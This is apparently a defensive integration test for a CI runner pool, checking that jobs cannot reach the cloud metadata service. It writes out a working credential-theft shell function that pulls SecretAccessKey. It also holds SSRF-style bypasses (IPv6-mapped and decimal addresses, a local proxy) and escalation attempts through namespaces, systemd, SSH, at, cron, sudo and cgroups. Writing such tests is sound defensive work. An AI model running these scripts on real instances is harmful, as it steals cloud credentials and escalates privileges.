import assert from "node:assert/strict";
import { PATHS, UNITS } from "../../../contract/actions-runner-pool/host";
import { probeCommand } from "../../../host-config/shared/metadata-probe";
import { needSystemd } from "../../rehearsal/hosts/rig";
import { LivePool } from "../../../rehearsal/scenarios/actions-runner-pool/live-pool";
import { asJob, asRoot, assertRefused, assertWorks, runnerUid, type Attempt, type Outcome } from "./attempts";

/** Several times the usual duration; a bound on a hang, not a measurement. */
const BOUND_MS = 900_000;

const HOST = "http://169.254.169.254";
/** Prints the role's secret key and exits with 0, or fails. `$@`: options of curl. */
const THEFT = `steal() {
  local token role
  token=$(curl -sS -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "$@" ${HOST}/latest/api/token) || return
  role=$(curl -sS -m 3 -H "X-aws-ec2-metadata-token: $token" "$@" ${HOST}/latest/meta-data/iam/security-credentials/) || return
  curl -sS -m 3 -H "X-aws-ec2-metadata-token: $token" "$@" ${HOST}/latest/meta-data/iam/security-credentials/$role | grep SecretAccessKey
}
`;
/** The same as a separate script, for execution by other programs. */
const THIEF = `thief=$(mktemp); chmod 755 $thief; { echo '#!/bin/bash'; declare -f steal; echo 'steal'; } >$thief\n`;

/** A minimal forwarding proxy. */
const PROXY = `cat >$TMPDIR/proxy.py <<'PY'
import http.server, urllib.request
class Proxy(http.server.BaseHTTPRequestHandler):
    def forward(self):
        headers = {k: v for k, v in self.headers.items() if k.lower() != "host"}
        asked = urllib.request.Request(self.path, method=self.command, headers=headers)
        try:
            with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(asked, timeout=2) as answer:
                body = answer.read()
            self.send_response(200)
        except Exception as error:
            body = repr(error).encode()
            self.send_response(502)
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_PUT = forward
http.server.HTTPServer(("127.0.0.1", 18080), Proxy).serve_forever()
PY
python3 $TMPDIR/proxy.py & proxy=$!
trap 'kill $proxy' EXIT
until (exec 3<>/dev/tcp/127.0.0.1/18080) 2>/dev/null; do sleep 0.1; done
`;

const UNREACHABLE = /curl: \(\d+\) .*(Failed to connect|timed out|Timeout|Couldn't connect)/i;

const ATTEMPTS: Attempt[] = [
  { title: "from version 2 of the metadata service", script: `${THEFT}steal`, refusal: UNREACHABLE },
  {
    title: "from version 1: not even the service's refusal reaches the job",
    script: `curl -sS -m 3 -w '%{http_code}\\n' -o /dev/null ${HOST}/latest/meta-data/iam/security-credentials/`,
    refusal: UNREACHABLE,
  },
  { title: "over IPv6", script: "curl -sS -g -m 3 'http://[fd00:ec2::254]/' | grep metadata-over-ipv6", refusal: UNREACHABLE },
  {
    title: "by writing the address as an IPv6 address",
    script: `${THEFT.replaceAll(HOST, "http://[::ffff:169.254.169.254]")}steal -g`,
    refusal: UNREACHABLE,
  },
  {
    title: "by writing the address as one number",
    script: `${THEFT.replaceAll(HOST, "http://2852039166")}steal`,
    refusal: UNREACHABLE,
  },
  {
    title: "through a proxy that the job runs on the instance",
    script: `${THEFT}export TMPDIR=$(mktemp -d)\n${PROXY}steal -x http://127.0.0.1:18080`,
  },
  {
    title: "from a user namespace in which the job is root",
    script: `${THEFT}${THIEF}unshare --user --map-root-user $thief`,
    refusal: UNREACHABLE,
  },
  {
    title: "from a unit of its own service manager (systemd --user)",
    script: `${THEFT}${THIEF}loginctl enable-linger "$(id -un)" || exit
export XDG_RUNTIME_DIR=/run/user/$(id -u)
until [ -S $XDG_RUNTIME_DIR/systemd/private ]; do sleep 0.1; done
result=$(mktemp)
systemd-run --user --quiet bash -c "$thief >$result 2>&1; echo over >>$result"
until grep -q over $result; do sleep 0.1; done
cat $result; grep SecretAccessKey $result`,
    refusal: UNREACHABLE,
  },
  {
    title: "from an SSH session to its own instance",
    script: `${THEFT}${THIEF}mkdir -p -m 700 ~/.ssh
[ -e ~/.ssh/id_ed25519 ] || ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
cp ~/.ssh/id_ed25519.pub ~/.ssh/authorized_keys
ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=5 localhost $thief`,
    refusal: UNREACHABLE,
  },
  {
    title: "from an at job",
    script: `${THEFT}${THIEF}rm -f /tmp/at-result
echo "$thief >/tmp/at-result 2>&1" | at now || exit
for n in $(seq 100); do grep SecretAccessKey /tmp/at-result && exit; sleep 0.1; done; exit 1`,
    refusal: /You do not have permission to use at/,
  },
  { title: "from a cron job", script: "echo '* * * * * true' | crontab - && crontab -r", refusal: /not allowed to use this program/ },
];

/** Attempts to remove the restrictions; root must succeed with the same scripts. */
const OPENINGS: Attempt[] = [
  {
    title: "start a system unit",
    script: `${THEFT}${THIEF}systemd-run --quiet --wait --pipe $thief`,
    refusal: /authenticat|Access denied|authoriz/i,
  },
  {
    title: "remove the restrictions of its unit",
    script: `systemctl set-property --runtime ${UNITS.runner} IPAccounting=no`,
    refusal: /authenticat|Access denied|authoriz/i,
  },
  {
    title: "move to another unit's control group",
    script: `bash -c 'echo $$ >/sys/fs/cgroup/system.slice/${UNITS.agent}/cgroup.procs'`,
    refusal: /Permission denied/,
  },
  { title: "become root with sudo", script: "sudo -n true", refusal: /password is required|may not run sudo/ },
];

describe("a job that tries to obtain the instance's credentials", function () {
  this.timeout(BOUND_MS);
  let pool: LivePool;
  let defended: Outcome[];
  let undefended: Outcome[];
  let openings: Outcome[];
  let byRoot: Outcome[];

  before(async function () {
    needSystemd(this);
    pool = await LivePool.open(1);
    const [instance] = pool.inService() as [string];
    await pool.sh(
      instance,
      "for unit in atd cron ssh; do rm /etc/systemd/system/$unit.service; done; systemctl daemon-reload; mkdir -p /run/sshd; systemctl start atd cron ssh",
    );
    // The metadata stand-in has no IPv6, so the machine itself answers at that address.
    await pool.sh(
      instance,
      `ip -6 address add fd00:ec2::254/128 dev lo nodad && mkdir /srv/six && echo metadata-over-ipv6 >/srv/six/index.html
systemd-run --quiet --unit=six python3 -m http.server --bind fd00:ec2::254 --directory /srv/six 80
until curl -s -g -o /dev/null 'http://[fd00:ec2::254]/'; do sleep 0.1; done`,
    );
    defended = await asJob(pool, instance, ATTEMPTS, "defended");
    openings = await asJob(pool, instance, OPENINGS, "openings");
    byRoot = await asRoot(pool, instance, OPENINGS, "by-root");
    // Only the defence is removed.
    const uid = await runnerUid(pool, instance);
    await pool.sh(
      instance,
      `for unit in ${UNITS.runner} user-${uid}.slice; do systemctl set-property --runtime $unit IPAddressDeny=; done
sed -i /^runner$/d /etc/cron.deny /etc/at.deny`,
    );
    undefended = await asJob(pool, instance, ATTEMPTS, "undefended");
  });
  after(() => pool?.close());

  for (const [index, attempt] of ATTEMPTS.entries()) {
    it(`cannot get them ${attempt.title}`, () => assertRefused(attempt, defended[index]));
  }

  for (const [index, attempt] of OPENINGS.entries()) {
    it(`cannot ${attempt.title}, but root can`, () => {
      assertRefused(attempt, openings[index]);
      assertWorks(attempt, byRoot[index]);
    });
  }

  it("does not run on an image that cannot deny them: the installation checks first", async () => {
    const [instance] = pool.inService() as [string];
    const quoted = (words: string[]) => words.map((word) => `'${word.replaceAll("'", `'\\''`)}'`).join(" ");
    await pool.sh(instance, quoted(probeCommand(PATHS.node)));
    const { exitCode } = await pool.run(instance, quoted(probeCommand(PATHS.node, [])));
    assert.equal(exitCode, 1, "without the denial the probe must fail");
  });

  it("does not run on an image whose job user needs no password for sudo: the installation checks first", async () => {
    const [instance] = pool.inService() as [string];
    const install = `${PATHS.node} ${PATHS.agent} install`;
    const rule = "/etc/sudoers.d/image";
    const user = await pool.sh(instance, `id -un ${await runnerUid(pool, instance)}`);
    await pool.sh(instance, `umask 337; echo '${user} ALL=(ALL) NOPASSWD: ALL' >${rule}`);
    const [root] = await asJob(pool, instance, [{ script: "sudo -n id -u | grep -x 0" }], "root");
    assert.equal(root!.code, 0, `with this rule a job is root, or the test shows nothing: ${root!.output}`);
    const { exitCode, stdout, stderr } = await pool.run(instance, install);
    assert.equal(exitCode, 1, "the installation must refuse the image");
    assert.match(stdout + stderr, new RegExp(`runnerUser ${user}: sudo asks this user for no password`));
    await pool.sh(instance, `rm ${rule}; ${install}`);
  });

  it("gets them in each of these ways once the defence is removed, so the refusals are meaningful", () => {
    for (const [index, attempt] of ATTEMPTS.entries()) assertWorks(attempt, undefended[index]);
    assert.match(undefended[1]!.output, /401/, "version 1 is closed in the launch template as well");
  });
});
